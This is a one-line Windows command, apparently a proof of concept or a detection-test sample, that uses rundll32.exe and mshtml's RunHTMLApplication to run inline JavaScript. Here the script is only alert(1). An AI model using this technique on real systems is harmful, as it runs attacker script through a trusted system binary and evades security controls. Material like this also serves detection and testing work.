rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert(1)
